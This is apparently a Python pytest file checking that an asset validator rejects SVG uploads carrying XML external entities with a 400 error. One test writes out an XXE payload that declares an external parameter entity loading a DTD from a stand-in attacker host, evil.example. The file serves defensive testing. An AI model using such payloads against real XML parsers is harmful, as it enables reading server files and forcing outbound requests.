import pytest

from assets.tests.samples import inspect_bytes, xxe_svg
from assets.validation import RejectedFile


def test_external_entity_is_rejected_with_400():
    with pytest.raises(RejectedFile) as caught:
        inspect_bytes(xxe_svg())

    assert caught.value.status_code == 400
    assert "root:" not in str(caught.value)
    assert "DOCTYPE" in str(caught.value)


def test_external_parameter_entity_is_rejected_with_400():
    data = (
        b'<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    )

    with pytest.raises(RejectedFile) as caught:
        inspect_bytes(data)

    assert caught.value.status_code == 400
